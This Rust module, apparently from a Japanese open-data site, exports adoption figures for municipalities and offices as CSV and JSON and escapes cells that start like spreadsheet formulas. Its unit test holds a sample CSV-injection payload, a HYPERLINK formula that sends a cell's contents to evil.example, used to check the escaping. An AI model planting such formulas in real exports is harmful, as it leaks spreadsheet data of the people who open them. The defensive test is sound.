//! The open-data files of DESIGN.md: the same figures as the pages, for
//! spreadsheets (CSV with BOM) and programs (JSON).

use serde::Serialize;

use crate::figures::{Counts, DateFigures, Figures, Status};
use crate::model::Site;
use crate::urls;

/// `data/municipalities.csv`, `.json`, `data/groups.csv`, `data/trend.csv`,
/// `data/adopted-offices.csv`, `data/office-status.csv` and, with
/// `data/areas.csv`, `data/areas.csv` as (path, bytes).
pub fn files(site: &Site, figures: &Figures) -> Vec<(String, Vec<u8>)> {
    let as_of = figures
        .current
        .date
        .map(|d| d.to_string())
        .unwrap_or_default();
    let areas = places_of(site, &figures.current);
    let municipalities = figure_table(
        &["code", "name"],
        areas
            .iter()
            .map(|(code, name, c)| (vec![code.to_string(), name.to_string()], *c)),
        &as_of,
    );
    let groups = figure_table(
        &["name"],
        site.groups
            .iter()
            .map(|g| (vec![g.name.clone()], figures.current.groups[g.id])),
        &as_of,
    );
    let mut trend = vec![
        ["date", "code", "name", "offices", "adopted", "rate"]
            .map(String::from)
            .to_vec(),
    ];
    for date_figures in &figures.trend {
        let date = date_figures.date.map(|d| d.to_string()).unwrap_or_default();
        for (code, name, c) in places_of(site, date_figures) {
            trend.push(vec![
                date.clone(),
                code.to_string(),
                name.to_string(),
                c.offices.to_string(),
                c.adopted.to_string(),
                c.rate().to_string(),
            ]);
        }
    }
    let mut adopted = vec![
        [
            "office_number",
            "name",
            "municipality_code",
            "service_types",
            "linking",
            "software",
        ]
        .map(String::from)
        .to_vec(),
    ];
    adopted.extend(
        figures.adopted[site.places.own().id]
            .iter()
            .filter_map(|&id| Some((site.office(id), figures.adoption[id].as_ref()?)))
            .map(|(o, a)| {
                vec![
                    o.number.to_string(),
                    o.name.clone(),
                    site.places.get(o.municipality).code.to_string(),
                    o.service_types.join(";"),
                    a.linking.to_string(),
                    a.software.clone().unwrap_or_default(),
                ]
            }),
    );
    let mut status = vec![
        [
            "office_number",
            "name",
            "municipality_code",
            "area",
            "service_types",
            "status",
            "adopted_since",
            "linking",
            "software",
        ]
        .map(String::from)
        .to_vec(),
    ];
    status.extend(figures.by_number.iter().map(|&id| {
        let o = site.office(id);
        let adoption = figures.adoption[id].as_ref();
        let (status, since) = match figures.status[id] {
            Status::Adopted { since } => ("adopted", since.to_string()),
            Status::Planned => ("planned", String::new()),
            Status::NotAdopted => ("not_adopted", String::new()),
        };
        vec![
            o.number.to_string(),
            o.name.clone(),
            site.places.get(o.municipality).code.to_string(),
            o.area.clone(),
            o.service_types.join(";"),
            status.to_string(),
            since,
            adoption.is_some_and(|a| a.linking).to_string(),
            adoption
                .and_then(|a| a.software.clone())
                .unwrap_or_default(),
        ]
    }));
    let mut files = vec![
        (
            urls::MUNICIPALITIES_CSV.to_string(),
            csv_bytes(&municipalities),
        ),
        (
            urls::MUNICIPALITIES_JSON.to_string(),
            json_bytes(&as_of, &areas),
        ),
        (urls::TREND_CSV.to_string(), csv_bytes(&trend)),
        (urls::ADOPTED_OFFICES_CSV.to_string(), csv_bytes(&adopted)),
        (urls::OFFICE_STATUS_CSV.to_string(), csv_bytes(&status)),
    ];
    // A header alone says nothing: without groups there is no groups file.
    if !site.groups.is_empty() {
        files.push((urls::GROUPS_CSV.to_string(), csv_bytes(&groups)));
    }
    if site.places.has_area_file() {
        let areas = figure_table(
            &["id", "name", "municipality_code"],
            site.places.areas().iter().map(|a| {
                let id = a.area.as_ref().expect("an area has its id").id.to_string();
                (
                    vec![id, a.name.clone(), a.code.to_string()],
                    figures.current.places[a.id],
                )
            }),
            &as_of,
        );
        files.push((urls::AREAS_CSV.to_string(), csv_bytes(&areas)));
    }
    files
}

/// The site's own place, then every municipality in output order.
fn places_of<'a>(site: &'a Site, figures: &DateFigures) -> Vec<(&'a str, &'a str, Counts)> {
    std::iter::once(site.places.own())
        .chain(site.places.municipalities())
        .map(|p| (p.code.as_str(), p.name.as_str(), figures.places[p.id]))
        .collect()
}

/// A header and one row per area: the naming cells, then the figures in the
/// column order of DESIGN.md.
fn figure_table(
    names: &[&str],
    rows: impl Iterator<Item = (Vec<String>, Counts)>,
    as_of: &str,
) -> Vec<Vec<String>> {
    let figure_columns = [
        "as_of",
        "offices",
        "adopted",
        "rate",
        "cm_offices",
        "cm_adopted",
        "cm_rate",
        "linking",
    ];
    let header = names
        .iter()
        .chain(&figure_columns)
        .map(|c| c.to_string())
        .collect();
    let rows = rows.map(|(mut row, c)| {
        row.extend([
            as_of.to_string(),
            c.offices.to_string(),
            c.adopted.to_string(),
            c.rate().to_string(),
            c.cm_offices.to_string(),
            c.cm_adopted.to_string(),
            c.cm_rate().to_string(),
            c.linking.to_string(),
        ]);
        row
    });
    std::iter::once(header).chain(rows).collect()
}

/// UTF-8 with BOM so spreadsheets open Japanese right; LF line ends; every
/// cell [`spreadsheet_safe`].
fn csv_bytes(rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    for row in rows {
        for cell in row {
            writer
                .write_field(spreadsheet_safe(cell).as_bytes())
                .expect("writing to memory cannot fail");
        }
        writer
            .write_record(None::<&[u8]>)
            .expect("writing to memory cannot fail");
    }
    writer.into_inner().expect("writing to memory cannot fail")
}

/// Whether a text cell starts the way a spreadsheet starts a formula
/// (OWASP's list for CSV injection: `=`, `+`, `-`, `@`, tab, carriage
/// return): `=HYPERLINK(...)` in an office name would run when a citizen
/// opens the download. Numbers (`-1.5`) are not text.
pub fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

/// A text cell that starts like a formula gets a leading `'`, which
/// spreadsheets take as "this is text" and do not display; every other cell
/// is written as it is.
fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if starts_like_formula(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

#[derive(Serialize)]
struct JsonRow<'a> {
    code: &'a str,
    name: &'a str,
    as_of: &'a str,
    offices: u32,
    adopted: u32,
    rate: Option<f64>,
    cm_offices: u32,
    cm_adopted: u32,
    cm_rate: Option<f64>,
    linking: u32,
}

fn json_bytes(as_of: &str, areas: &[(&str, &str, Counts)]) -> Vec<u8> {
    let rows: Vec<JsonRow> = areas
        .iter()
        .map(|(code, name, c)| JsonRow {
            code,
            name,
            as_of,
            offices: c.offices,
            adopted: c.adopted,
            rate: c.rate().as_f64(),
            cm_offices: c.cm_offices,
            cm_adopted: c.cm_adopted,
            cm_rate: c.cm_rate().as_f64(),
            linking: c.linking,
        })
        .collect();
    let mut bytes = serde_json::to_vec_pretty(&rows).expect("plain data serializes");
    bytes.push(b'\n');
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_quoted_and_numbers_kept() {
        let rows = vec![
            vec!["name".to_string(), "rate".to_string()],
            vec![
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string(),
                "10.5".to_string(),
            ],
            vec!["+81 97".to_string(), "-1.5".to_string()],
            vec!["-".to_string(), String::new()],
            vec!["@SUM(A1)".to_string(), "\tx".to_string()],
            vec!["\rx".to_string(), "大分=市".to_string()],
        ];
        let text = String::from_utf8(csv_bytes(&rows)).unwrap();
        assert_eq!(
            text,
            "\u{feff}name,rate\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",10.5\n'+81 97,-1.5\n'-,\n'@SUM(A1),'\tx\n\"'\rx\",大分=市\n"
        );
    }
}
